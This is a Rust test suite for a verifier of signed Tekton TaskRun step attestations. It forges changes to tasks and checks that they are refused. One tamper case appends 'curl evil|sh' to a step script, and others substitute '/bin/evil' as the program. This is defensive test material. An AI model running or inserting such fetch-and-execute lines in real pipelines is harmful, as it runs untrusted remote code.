//! What a step ran, under its signature: `testdata/programs` has what Tekton's own code makes of TaskRuns of every kind, the
//! task in the status and the arguments of the containers. What the entrypoint takes for its program is signed here and
//! compared with the task.

use crate::support;

use std::{
    ffi::{OsStr, OsString},
    fs,
    path::Path,
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use ring::rand::SystemRandom;
use serde_json::{Value, json};
use support::{
    attestation::bare,
    signed::{Cluster, judge, judge_with, reasons, trust},
};
use svidence::{
    evidence::{
        attestation::{self, Attestation},
        key::SigningKey,
        program::is_script_name,
        sha256,
        statement::{Context, pre_authentication_encoding, statement},
    },
    step::{args, roots::Roots, signing::given, when},
    verify::{AttestedProgram, Policy, PolicyFile, Report, Trust, Verdict},
};
use unixtime::UnixMillis;
use unixtime::UnixSeconds;
use x509::text::hex;

const NAME: &str = "run";
const SHIFT: i64 = 60;

/// What Tekton's code makes of each kind.
fn kinds() -> Vec<Value> {
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/programs/made.jsonl");
    fs::read_to_string(file).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn list<'a>(value: &'a Value, member: &str) -> &'a [Value] {
    value.get(member).and_then(Value::as_array).map_or(&[], Vec::as_slice)
}

/// Writes the scripts of a pod as `place-scripts` does: text by text in base64, and then decoded.
fn place_scripts(kind: &Value, roots: &Roots) {
    let mut file = String::new();
    let mut lines = kind["placeScripts"].as_str().unwrap().lines();
    fs::create_dir_all(roots.scripts()).unwrap();
    while let Some(line) = lines.next() {
        if let Some(name) = line.strip_prefix("scriptfile=\"/tekton/scripts/") {
            file = name.trim_end_matches('"').to_owned();
        } else if line.ends_with("<< '_EOF_'") {
            let script = STANDARD.decode(lines.next().unwrap()).unwrap();
            fs::write(roots.scripts().join(&file), script).unwrap();
        }
    }
}

/// A TaskRun of this kind, its steps signed with what the entrypoint takes for their programs, or with what `program` makes of it.
fn signed(cluster: &Cluster, kind: &Value, program: impl Fn(Option<[u8; 32]>) -> Option<[u8; 32]>) -> Value {
    let folder = tempfile::tempdir().unwrap();
    let roots = Roots { tekton: folder.path().to_owned(), ..Roots::real() };
    place_scripts(kind, &roots);
    let random = SystemRandom::new();
    let now = cluster.created.unix_timestamp();
    let svid = cluster
        .ca
        .issue(
            &format!("/ns/default/taskrun/{NAME}"),
            &[],
            UnixSeconds::new(now),
            std::time::Duration::from_secs(3600),
            &random,
        )
        .unwrap();
    let key = SigningKey::from_pkcs8(&svid.key).unwrap();
    let steps = list(kind, "steps");
    let (mut states, mut results) = (Vec::new(), Vec::new());
    for (i, step) in steps.iter().enumerate() {
        let container = step["name"].as_str().unwrap();
        let name = attestation::step_name(container);
        let scripts = format!("{}/", roots.scripts().display());
        let arguments = list(step, "args")
            .iter()
            .map(|arg| arg.as_str().unwrap().replacen("/tekton/scripts/", &scripts, 1));
        let args = args::parse(arguments.map(OsString::from).collect(), &roots)
            .unwrap_or_else(|refused| panic!("{}: {}", kind["name"], refused.error));
        let mut command = vec![args.entrypoint.clone()];
        command.extend(args.command_args.iter().cloned());
        let expressions = when::parse(&args.when_expressions).unwrap();
        let names = |joined: &OsStr| -> Vec<String> {
            joined.to_str().unwrap().split(',').map(str::to_owned).collect()
        };
        let (task, own) = (names(&args.results), names(&args.step_results));
        let mut attestation = Attestation {
            task_run: NAME.into(),
            pod_uid: Some([7; 16]),
            step_index: i as u32,
            step_count: steps.len() as u32,
            declared: attestation::declared(task.iter().map(String::as_str), own.iter().map(String::as_str)),
            program: program(given::digest(&command, &expressions, &args, &roots)),
            started: UnixMillis::new((now + i as i64) as u64 * 1000),
            duration: std::time::Duration::from_millis(10),
            delay: std::time::Duration::from_millis(1),
            ..bare(svid.certificate.clone())
        };
        let context = Context {
            trust_domain: "example.org",
            step: name,
            results: &[],
            leaf: sha256(&svid.certificate),
        };
        let message = pre_authentication_encoding(&statement(&attestation, context));
        attestation.signature = key.sign_attestation(&message, &random).unwrap();
        let value = attestation.to_value();
        let entry = attestation::key(name);
        results.push(json!({"name": entry, "type": "string", "value": value}));
        states.push(json!({
            "name": name, "container": container, "terminationReason": "Completed",
            "terminated": {"exitCode": 0, "message": json!([{"key": entry, "value": value, "type": 1}]).to_string()},
        }));
    }
    json!({
        "apiVersion": "tekton.dev/v1",
        "kind": "TaskRun",
        "metadata": {
            "name": NAME, "namespace": "default", "uid": "78322e13-a738-4556-be59-2b2445332751",
            "creationTimestamp": UnixSeconds::new(now).to_string(),
        },
        "spec": {"params": kind["params"], "taskRef": {"name": "the-task"}},
        "status": {
            "podName": format!("{NAME}-pod"),
            "startTime": UnixSeconds::new(now).to_string(),
            "completionTime": UnixSeconds::new(now + SHIFT).to_string(),
            "conditions": [{"type": "Succeeded", "status": "True"}],
            "results": results,
            "steps": states,
            "taskSpec": kind["taskSpec"],
        },
    })
}

fn known(cluster: &Cluster) -> Trust {
    let trust = trust(&cluster.ca.bundle_pem());
    Trust { now: UnixSeconds::new(cluster.created.unix_timestamp() + SHIFT), ..trust }
}

fn genuine(cluster: &Cluster, kind: &Value) -> Value {
    signed(cluster, kind, |program| program)
}

fn programs(report: &Report) -> Vec<&'static str> {
    report.proof.iter().flat_map(|proof| proof.basis.steps()).map(|step| step.program.as_str()).collect()
}

/// What Tekton calls a step's script (`pkg/pod/script.go`), and what only looks like it.
#[test]
fn a_script_has_the_name_that_tekton_gives_it() {
    for (name, is_one) in [
        ("script-0-9l9zj", true),
        ("script-12-abcde", true),
        ("script--9l9zj", false),
        ("script-a-9l9zj", false),
        ("script-0-9l9z", false),
        ("script-0-9l9zjx", false),
        ("script-0-9L9ZJ", false),
        ("script-0-9l-zj", false),
        ("script-0", false),
        ("sidecar-script-0-9l9zj", false),
        ("run.sh", false),
        ("", false),
    ] {
        assert_eq!(is_script_name(name), is_one, "{name:?}");
    }
}

#[test]
fn honest_tasks_of_every_kind_are_attested_and_none_is_refused() {
    let cluster = Cluster::new(NAME);
    let trust = known(&cluster);
    let kinds = kinds();
    assert!(kinds.len() >= 80, "{}", kinds.len());
    for kind in &kinds {
        let name = kind["name"].as_str().unwrap();
        let report = judge(&genuine(&cluster, kind), &trust);
        assert_eq!(report.verdict, Verdict::Verified, "{name}: {}", reasons(&report));
        // A variable's value is put in; all expressions are one text, in which a reference may end in another part; a parameter is
        // put in again after the pod was made; and nothing signs on Windows.
        let not_stated: &[usize] = match name {
            "args-variable" | "pod-template-env" | "self-env" | "dollar-multibyte" | "when-dollars" => &[0],
            "param-that-refers" | "dollar-then-paren" | "dollar-then-paren-args" => &[0],
            "env-step-ref" => &[1],
            "template-args" => &[0, 2],
            "windows" => &[0, 1],
            _ => &[],
        };
        for (place, program) in programs(&report).into_iter().enumerate() {
            let expected = if not_stated.contains(&place) { "not stated" } else { "attested" };
            assert_eq!(program, expected, "{name}, step {place}");
        }
    }
}

#[test]
fn what_the_object_cannot_say_is_not_stated_and_never_a_contradiction() {
    let cluster = Cluster::new(NAME);
    let trust = known(&cluster);
    let of = |name: &str| kinds().into_iter().find(|kind| kind["name"] == name).unwrap();
    type Change = fn(&mut Value);
    let cases: [(&str, &str, Change); 13] = [
        ("a parameter that names another", "param-that-refers", |_| {}),
        ("a parameter that is half a reference", "dollar-then-paren", |_| {}),
        ("another script, and a default that refers to something", "script", |run| {
            run["status"]["taskSpec"]["steps"][0]["script"] = json!("#!/bin/sh\nother");
            run["status"]["taskSpec"]["params"] = json!([{"name": "p", "default": {"k": "a $(params.q)"}}]);
        }),
        ("another script, and a parameter of the step that refers to something", "script", |run| {
            let step = &mut run["status"]["taskSpec"]["steps"][0];
            step["script"] = json!("#!/bin/sh\nother");
            step["params"] = json!([{"name": "p", "value": ["a", "$(params.q)"]}]);
        }),
        ("the command is the image's", "command-args", |run| {
            run["status"]["taskSpec"]["steps"][0].as_object_mut().unwrap().remove("command");
        }),
        ("a variable of the kubelet's", "args-variable", |_| {}),
        ("a StepAction that was not resolved", "script", |run| {
            let step = &mut run["status"]["taskSpec"]["steps"][0];
            *step = json!({"name": "a", "ref": {"name": "x"}});
        }),
        ("a timeout that Go does not read", "timeout", |run| {
            run["status"]["taskSpec"]["steps"][0]["timeout"] = json!("soon");
        }),
        ("a script for Windows", "script", |run| {
            run["status"]["taskSpec"]["steps"][0]["script"] = json!("#!win\nx");
        }),
        ("a script and a command", "script", |run| {
            run["status"]["taskSpec"]["steps"][0]["command"] = json!(["/bin/evil"]);
        }),
        ("a script and a common command", "script", |run| {
            run["status"]["taskSpec"]["stepTemplate"] = json!({"command": ["/bin/evil"]});
        }),
        ("onError that is none", "script", |run| {
            run["status"]["taskSpec"]["steps"][0]["onError"] = json!("Continue");
        }),
        ("a command that may be a script of the controller's", "command-args", |run| {
            run["status"]["taskSpec"]["steps"][0]["command"] = json!(["/tekton/scripts/script-0-abcde"]);
        }),
    ];
    for (case, kind, change) in cases {
        let mut object = genuine(&cluster, &of(kind));
        change(&mut object);
        let report = judge(&object, &trust);
        assert_eq!(report.verdict, Verdict::Verified, "{case}: {}", reasons(&report));
        assert_eq!(programs(&report), ["not stated"], "{case}");
    }
    let object = signed(&cluster, &of("script"), |_| None);
    let report = judge(&object, &trust);
    assert_eq!(report.verdict, Verdict::Verified, "evidence without the field: {}", reasons(&report));
    assert_eq!(programs(&report), ["not attested"]);
}

/// Changes of one step, by what they are. `None`: this step has nothing to change in this way.
type Change = (&'static str, fn(&mut Value) -> Option<()>);

fn text(step: &mut Value, member: &str, change: impl FnOnce(&str) -> String) -> Option<()> {
    let new = change(step.get(member)?.as_str()?);
    step[member] = json!(new);
    Some(())
}

fn words<'a>(step: &'a mut Value, member: &str) -> Option<&'a mut Vec<Value>> {
    step.get_mut(member)?.as_array_mut().filter(|words| !words.is_empty())
}

const CHANGES: [Change; 30] = [
    ("a line more", |step| text(step, "script", |script| format!("{script}curl evil|sh\n"))),
    ("a line before", |step| text(step, "script", |script| format!("true\n{script}"))),
    ("a newline more", |step| text(step, "script", |script| format!("{script}\n"))),
    ("another first line", |step| text(step, "script", |script| format!("#!/bin/evil\n{script}"))),
    ("a space more", |step| text(step, "script", |script| format!("{script} "))),
    ("a letter less", |step| text(step, "script", |script| script.chars().skip(1).collect::<String>() + "x")),
    ("another script", |step| text(step, "script", |_| "#!/bin/sh\necho harmless\n".into())),
    ("without its first line", |step| {
        step["script"].as_str()?.strip_prefix("#!/bin/sh\nset -e\n").is_none().then_some(())?;
        let script = step["script"].as_str()?.strip_prefix("#!")?.to_owned();
        step["script"] = json!(script.split_once('\n')?.1);
        Some(())
    }),
    ("lines that end otherwise", |step| {
        let script = step.get("script")?.as_str()?.replace("\r\n", "\r");
        (script.contains('\n')).then_some(())?;
        text(step, "script", |_| script.replace('\n', "\r\n"))
    }),
    ("blanks before it", |step| text(step, "script", |script| format!(" {script}"))),
    ("in capitals", |step| {
        let script = step.get("script")?.as_str()?;
        (script != script.to_uppercase()).then_some(())?;
        text(step, "script", str::to_uppercase)
    }),
    ("an argument of the script", |step| {
        step.get("script")?;
        let mut args = list(step, "args").to_vec();
        args.insert(0, json!("evil"));
        step["args"] = json!(args);
        Some(())
    }),
    ("a command beside the script", |step| {
        step.get("script")?;
        step["command"] = json!(["/bin/evil"]);
        Some(())
    }),
    ("another onError", |step| {
        step["onError"] = json!("ignore");
        Some(())
    }),
    ("a word with a dollar more", |step| words(step, "args").map(|words| words[0] = json!("$$$$x"))),
    ("a command for the script", |step| {
        step.as_object_mut()?.remove("script")?;
        step["command"] = json!(["true"]);
        Some(())
    }),
    ("a script for the command", |step| {
        step.get("script").is_none().then_some(())?;
        step["script"] = json!("true");
        Some(())
    }),
    ("another program", |step| words(step, "command").map(|words| words[0] = json!("/bin/evil"))),
    ("a word more in the command", |step| words(step, "command").map(|words| words.push(json!("-x")))),
    ("an argument more", |step| words(step, "args").map(|words| words.push(json!("-x")))),
    ("an empty argument", |step| words(step, "args").map(|words| words.push(json!("")))),
    ("no arguments", |step| words(step, "args").map(|words| *words = vec![json!("other")])),
    ("arguments in another order", |step| {
        let words = words(step, "args")?;
        (words.first() != words.last()).then(|| words.reverse())
    }),
    ("two arguments as one", |step| {
        let words = words(step, "args")?;
        let joined = words.iter().map(|word| word.as_str().unwrap()).collect::<Vec<_>>().join(" ");
        (words.len() > 1).then(|| *words = vec![json!(joined)])
    }),
    ("onError", |step| {
        let continues = step.get("onError").is_some_and(|said| said == "continue");
        step["onError"] = json!(if continues { "stopAndFail" } else { "continue" });
        Some(())
    }),
    ("a timeout", |step| {
        step["timeout"] = json!("7m3s");
        Some(())
    }),
    ("no timeout", |step| {
        let timeout = step.as_object_mut()?.remove("timeout")?;
        (timeout != "0s").then_some(())
    }),
    ("a when expression", |step| {
        step["when"] = json!([{"input": "x", "operator": "in", "values": ["x"]}]);
        Some(())
    }),
    ("no when expressions", |step| step.as_object_mut()?.remove("when").map(|_| ())),
    ("another operator", |step| {
        let expression = words(step, "when")?.first_mut()?;
        text(expression, "operator", |operator| if operator == "in" { "notin" } else { "in" }.into())
    }),
];

#[test]
fn no_change_of_a_task_is_attested() {
    let cluster = Cluster::new(NAME);
    let trust = known(&cluster);
    let (mut refused, mut not_stated) = (0, 0);
    for kind in kinds() {
        let name = kind["name"].as_str().unwrap().to_owned();
        let object = genuine(&cluster, &kind);
        let steps = list(&kind["taskSpec"], "steps").len();
        let mut forgeries: Vec<(String, usize, Value)> = Vec::new();
        for place in 0..steps {
            for (what, change) in CHANGES {
                let mut forged = object.clone();
                if change(&mut forged["status"]["taskSpec"]["steps"][place]).is_some() {
                    forgeries.push((what.into(), place, forged));
                }
            }
            // What another step ran.
            let mut forged = object.clone();
            let task = &mut forged["status"]["taskSpec"]["steps"];
            let (own, next) = (task[place]["script"].clone(), task[(place + 1) % steps]["script"].clone());
            if !own.is_null() && !next.is_null() && own != next {
                task[place]["script"] = next;
                forgeries.push(("the script of the next step".into(), place, forged));
            }
        }
        let mut forged = object.clone();
        let template = &mut forged["status"]["taskSpec"]["stepTemplate"];
        let takes = |step: &Value| step.get("args").is_none();
        if let Some(place) = list(&kind["taskSpec"], "steps").iter().position(takes) {
            let mut args = list(template, "args").to_vec();
            args.push(json!("evil"));
            *template = json!({"args": args});
            let template = &kind["taskSpec"]["stepTemplate"];
            if let Some(command) = template.get("command") {
                forged["status"]["taskSpec"]["stepTemplate"]["command"] = command.clone();
            }
            forgeries.push(("arguments for all".into(), place, forged));
        }
        for (what, place, forged) in forgeries {
            let report = judge(&forged, &trust);
            match report.verdict {
                Verdict::Invalid => {
                    assert!(
                        report.findings.iter().any(|finding| finding.code() == "program"
                            && finding.facts().step.is_some()
                            && finding.facts().field.as_deref()
                                == Some(&format!("status.taskSpec.steps[{place}]"))),
                        "{name}, step {place}, {what}: {}",
                        reasons(&report)
                    );
                    refused += 1;
                }
                Verdict::Verified => {
                    let program = programs(&report)[place];
                    assert_eq!(program, "not stated", "{name}, step {place}, {what}");
                    not_stated += 1;
                }
                _ => panic!("{name}, step {place}, {what}: {}", reasons(&report)),
            }
        }
    }
    eprintln!("changed tasks: {refused} refused, {not_stated} not stated");
    assert!(refused >= 300, "{refused} refused, {not_stated} not stated");
}

#[test]
fn steps_in_other_places_or_of_other_names_are_not_attested() {
    let cluster = Cluster::new(NAME);
    let trust = known(&cluster);
    type Change = fn(&mut Vec<Value>);
    let changes: [(&str, Change); 6] = [
        ("another name", |steps| steps[0]["name"] = json!("other")),
        ("another order", |steps| steps.reverse()),
        ("the first one twice", |steps| steps.insert(0, steps[0].clone())),
        ("one more", |steps| steps.push(json!({"name": "more", "image": "i", "script": "true"}))),
        ("one less", |steps| drop(steps.pop())),
        ("the names of others", |steps| {
            let names: Vec<Value> = steps.iter().map(|step| step["name"].clone()).collect();
            steps.iter_mut().zip(names.into_iter().rev()).for_each(|(step, name)| step["name"] = name);
        }),
    ];
    let mut changed = 0;
    for kind in kinds() {
        let object = genuine(&cluster, &kind);
        for (what, change) in changes {
            let mut forged = object.clone();
            change(forged["status"]["taskSpec"]["steps"].as_array_mut().unwrap());
            if forged == object {
                continue;
            }
            let report = judge(&forged, &trust);
            assert_eq!(report.verdict, Verdict::Invalid, "{}, {what}: {}", kind["name"], reasons(&report));
            changed += 1;
        }
    }
    assert!(changed >= 200, "{changed}");
}

#[test]
fn what_runs_alike_is_one_program_however_it_is_written() {
    let cluster = Cluster::new(NAME);
    let trust = known(&cluster);
    let of = |name: &str| kinds().into_iter().find(|kind| kind["name"] == name).unwrap();
    type Change = fn(&mut Value);
    let cases: [(&str, &str, Change); 5] = [
        ("all words in the command", "command-args", |task| {
            let step = &mut task["steps"][0];
            let words: Vec<Value> = [list(step, "command"), list(step, "args")].concat();
            step["command"] = json!(words);
            step.as_object_mut().unwrap().remove("args");
        }),
        ("a common command", "command-args", |task| {
            let command = task["steps"][0].as_object_mut().unwrap().remove("command");
            task["stepTemplate"] = json!({"command": command});
        }),
        ("Tekton's first lines written out", "script", |task| {
            let script = task["steps"][0]["script"].as_str().unwrap();
            task["steps"][0]["script"] = json!(format!("#!/bin/sh\nset -e\n{script}"));
        }),
        ("another unit", "timeout", |task| task["steps"][0]["timeout"] = json!("90m")),
        ("what is so by default", "script", |task| task["steps"][0]["onError"] = json!("stopAndFail")),
    ];
    for (case, kind, change) in cases {
        let mut object = genuine(&cluster, &of(kind));
        change(&mut object["status"]["taskSpec"]);
        let report = judge(&object, &trust);
        assert_eq!(report.verdict, Verdict::Verified, "{case}: {}", reasons(&report));
        assert_eq!(programs(&report), ["attested"], "{case}");
    }
}

fn policy(demands: &str) -> Policy {
    let text = format!(
        "version: 1\nexpires: 2099-01-01T00:00:00Z\nrules:\n- {{namespace: default, taskRun: run, {demands}}}\n"
    );
    Policy {
        file: Some(PolicyFile::parse(&text).unwrap_or_else(|error| panic!("{text}: {error}"))),
        ..Policy::default()
    }
}

#[test]
fn a_policy_demands_programs_and_what_is_not_known_does_not_meet_it() {
    let cluster = Cluster::new(NAME);
    let trust = known(&cluster);
    let of = |name: &str| kinds().into_iter().find(|kind| kind["name"] == name).unwrap();
    let script = hex(&sha256(b"#!/bin/sh\nset -e\necho hello\n"));
    let object = genuine(&cluster, &of("script"));
    let step = |report: &Report| report.proof.as_ref().unwrap().basis.steps().next().unwrap().clone();
    let summary = step(&judge(&object, &trust));
    assert!(matches!(summary.program, AttestedProgram::Program { script: Some(_) }));
    assert_eq!(hex(&summary.script_digest().unwrap()), script);
    let program = hex(&summary.program_digest().unwrap());
    let other = hex(&sha256(b"other"));
    let mut without_task = object.clone();
    without_task["status"]["taskSpec"]["steps"][0].as_object_mut().unwrap().remove("script");
    let command = genuine(&cluster, &of("command-args"));
    let unattested = signed(&cluster, &of("script"), |_| None);
    let attested = "program: attested".to_owned();
    let scripts = |digests: &str| format!("scriptSha256: [{digests}]");
    let programs = |digests: &str| format!("programSha256: [{digests}]");
    for (case, object, demand, verdict) in [
        ("attested", &object, attested.clone(), Verdict::Verified),
        ("attested command", &command, attested.clone(), Verdict::Verified),
        ("not stated", &without_task, attested.clone(), Verdict::Weak),
        ("not attested", &unattested, attested, Verdict::Weak),
        ("this script", &object, scripts(&script), Verdict::Verified),
        ("one of two scripts", &object, scripts(&format!("{other}, {script}")), Verdict::Verified),
        ("another script", &object, scripts(&other), Verdict::Invalid),
        ("a command, not a script", &command, scripts(&script), Verdict::Invalid),
        ("a script that is not stated", &without_task, scripts(&script), Verdict::Weak),
        ("a script that is not attested", &unattested, scripts(&script), Verdict::Weak),
        ("this program", &object, programs(&program), Verdict::Verified),
        ("this program, not stated", &without_task, programs(&program), Verdict::Verified),
        ("another program", &object, programs(&other), Verdict::Invalid),
        ("a program that is not attested", &unattested, programs(&program), Verdict::Weak),
    ] {
        let report = judge_with(object, &trust, &policy(&demand));
        assert_eq!(report.verdict, verdict, "{case}: {}", reasons(&report));
        assert_eq!(report.proof.is_some(), verdict == Verdict::Verified, "{case}");
    }
    for demand in ["program: stated", "scriptSha256: []", "scriptSha256: [abc]", "programSha256: x"] {
        let text = format!(
            "version: 1\nexpires: 2099-01-01T00:00:00Z\nrules:\n- {{namespace: default, taskRun: run, {demand}}}\n"
        );
        assert!(PolicyFile::parse(&text).is_err(), "{demand}");
    }
}

#[test]
fn a_policy_demands_what_the_step_ran_that_set_a_result() {
    let cluster = Cluster::new(NAME);
    let pod = cluster.pod(&["one", "two"], &[]);
    let script = "printf v >$RESULTS/a";
    let run = |i: usize, script: &str| {
        pod.step(i).signed(&cluster.agent.address()).results(&["a"]).script(script).run().report
    };
    let reports = [run(0, script), run(1, "true")];
    let task = json!({
        "results": [{"name": "a", "type": "string"}],
        "steps": [
            {"name": "one", "image": "i", "command": ["sh", "-c"], "args": [script]},
            {"name": "two", "image": "i"},
        ],
    });
    let object = svidence::standin::taskrun::assemble(&cluster.spec(task), &reports);
    let trust = trust(&cluster.ca.bundle_pem());
    let report = judge(&object, &trust);
    assert_eq!(programs(&report), ["attested", "not stated"], "{}", reasons(&report));
    let program = report.proof.as_ref().unwrap().basis.steps().next().unwrap().program_digest().unwrap();
    let (program, other) = (hex(&program), hex(&sha256(b"other")));
    for (case, demand, verdict) in [
        ("attested", "results: [{name: a, program: attested}]".to_owned(), Verdict::Verified),
        ("every step", "program: attested".into(), Verdict::Weak),
        (
            "this one",
            format!("results: [{{name: a, from: one, programSha256: [{program}]}}]"),
            Verdict::Verified,
        ),
        ("another", format!("results: [{{name: a, programSha256: [{other}]}}]"), Verdict::Invalid),
        ("a script", format!("results: [{{name: a, scriptSha256: [{other}]}}]"), Verdict::Invalid),
    ] {
        let report = judge_with(&object, &trust, &policy(&demand));
        assert_eq!(report.verdict, verdict, "{case}: {}", reasons(&report));
    }
}

#[test]
fn a_step_that_found_a_result_is_not_the_one_that_set_it() {
    let cluster = Cluster::new(NAME);
    let pod = cluster.pod(&["one"], &[]);
    std::fs::write(pod.root().join("tekton/results/a"), "v").unwrap();
    let script = "true";
    let step = pod.step(0).signed(&cluster.agent.address()).results(&["a"]).script(script);
    let reports = [step.run().report];
    let task = json!({
        "results": [{"name": "a", "type": "string"}],
        "steps": [{"name": "one", "image": "i", "command": ["sh", "-c"], "args": [script]}],
    });
    let object = svidence::standin::taskrun::assemble(&cluster.spec(task), &reports);
    let trust = trust(&cluster.ca.bundle_pem());
    assert_eq!(programs(&judge(&object, &trust)), ["attested"]);
    let report = judge_with(&object, &trust, &policy("results: [{name: a, program: attested}]"));
    assert_eq!(report.verdict, Verdict::Invalid, "{}", reasons(&report));
    assert!(reasons(&report).contains("step one found it so"), "{}", reasons(&report));
}
